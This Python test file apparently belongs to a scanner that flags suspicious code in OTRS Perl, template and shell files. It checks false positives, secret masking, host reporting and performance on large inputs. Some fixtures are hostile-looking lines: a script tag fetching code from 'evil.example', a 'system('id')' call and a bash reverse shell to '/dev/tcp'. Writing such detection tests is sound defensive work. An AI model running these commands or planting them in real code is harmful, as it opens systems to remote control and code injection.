"""Signs in code: what is found, what is not, what is shown of it, and that no text takes long."""

from __future__ import annotations

import time

import pytest

from klardesk.otrs.inspect.signs import signs_in


@pytest.mark.parametrize(
    "line",
    [
        "return if !$Param{User};",
        "if ( $Param{Action} eq 'AgentLogin' ) { }",
        "eval { $Self->Value(); };",
        "$Self->{Backend}->system( Name => 1 );",
        "# system('id');",
        "my %Map = ( system => 'x', exec => 'y' );",
        "my $Text = 'use LWP; eval it';",
        "require Kernel::System::DB;",
        "my $SQL = 'SELECT login FROM users';",
        "do { 1 };",
        "$ENV{HTTP_USER_AGENT};",
        "=head1 system('x')\n\nsystem('y');\n\n=cut\n",
    ],
)
def test_honest_code_has_no_sign(line: str) -> None:
    assert signs_in("Kernel/System/X.pm", f"package X;\n{line}\n1;\n") == []


def test_no_literal_is_shown() -> None:
    (sign,) = signs_in("x.pm", "if ($Pw eq 'my secret') { }\n")
    assert (sign.kind, sign.line) == ("login", 1)
    assert "secret" not in sign.shown


def test_a_host_is_shown() -> None:
    (sign,) = signs_in("x.tt", '<script src="https://evil.example/x.js?key=1"></script>')
    assert (sign.kind, sign.shown) == ("outgoing", "evil.example")


def test_a_file_without_ending_is_known_by_its_first_line() -> None:
    assert [sign.kind for sign in signs_in("bin/own", "#!/usr/bin/env perl\nsystem('id');\n")] == ["shell"]
    assert [sign.kind for sign in signs_in("bin/own", "#!/bin/sh\nbash -i >& /dev/tcp/x/1\n")] == ["shell"]
    assert signs_in("bin/own", "system('id');\n") == []


@pytest.mark.parametrize(
    "text",
    [
        "#" * 200_000, "\n" * 200_000, "$" * 200_000, "'" * 200_000, "sub Check {" * 20_000, "sub Check { my " * 20_000,
        "<script " * 30_000,
        "$aaaaaaaa" * 30_000, "open '" * 40_000, "eval(" * 40_000, "s/e" * 60_000, "=x\n" * 60_000,
        "\\x41" * 60_000, "`a" * 100_000,
        "# $A->" * 40_000, "if (" * 60_000, "chr(1)." * 40_000, "GetParam( Param => 'a' )" * 9_000, "/*" * 100_000,
    ],
)  # fmt: skip
@pytest.mark.parametrize("name", ["x.pm", "x.js", "x.tt", "x.sh"])
def test_no_text_takes_long(text: str, name: str) -> None:
    began = time.process_time()
    signs_in(name, text)
    assert time.process_time() - began < 5
